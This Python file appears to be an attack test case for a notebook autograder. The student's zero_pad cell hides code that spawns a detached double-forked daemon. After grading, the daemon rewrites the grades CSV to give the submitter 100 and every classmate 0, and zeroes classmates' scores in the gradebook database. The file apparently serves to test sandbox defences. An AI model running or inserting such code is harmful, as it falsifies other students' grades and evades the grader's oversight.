"""Leave a daemon that rewrites the grades after grading: the grades CSV, the gradebook, a /tmp file.

All eight functions are honest. The zero_pad cell starts a detached Python process
(double fork, setsid) that for up to 2 minutes watches ``../../../grades/cnn_step_by_step.csv``: once the
grader has written it, it gives the attacker 100 and every classmate 0 there, sets the
classmates' ``manual_score`` to 0 in the gradebook, and writes
``/tmp/cnnattack_daemon_late_writer``.
Without protection: the grades CSV and the gradebook falsified after grading finished.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import os as _os
import sys as _sys

_LATER = """
import csv, os, sqlite3, sys, time
# cnnattack_daemon_late_writer
me, course = sys.argv[1], sys.argv[2]
grades = os.path.join(course, "grades", "cnn_step_by_step.csv")
end = time.monotonic() + 120
while time.monotonic() < end:
    time.sleep(0.3)
    try:
        with open(grades) as handle:
            rows = list(csv.reader(handle))
    except OSError:
        continue
    if not any(row and row[0] == me for row in rows):
        continue
    header = rows[0]
    for row in rows[1:]:
        for column in ("raw_score", "score"):
            row[header.index(column)] = "100" if row[0] == me else "0"
    with open(grades, "w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    try:
        db = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=5)
        db.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT submitted_notebook.id FROM "
                   "submitted_notebook JOIN submitted_assignment ON submitted_notebook.assignment_id = "
                   "submitted_assignment.id WHERE submitted_assignment.student_id != ?)", (me,))
        db.commit()
    except Exception:
        pass
    open("/tmp/cnnattack_daemon_late_writer", "w").write("grades rewritten after grading\\\\n")
    break
"""
_me = _os.path.basename(_os.path.dirname(_os.getcwd()))
_course = _os.path.realpath("../../..")
_child = _os.fork()
if _child == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _null = _os.open("/dev/null", _os.O_RDWR)
            for _fd in (0, 1, 2):
                _os.dup2(_null, _fd)
            _os.execv(_sys.executable, [_sys.executable, "-c", _LATER, _me, _course])
    finally:
        _os._exit(0)
_os.waitpid(_child, 0)
'''}
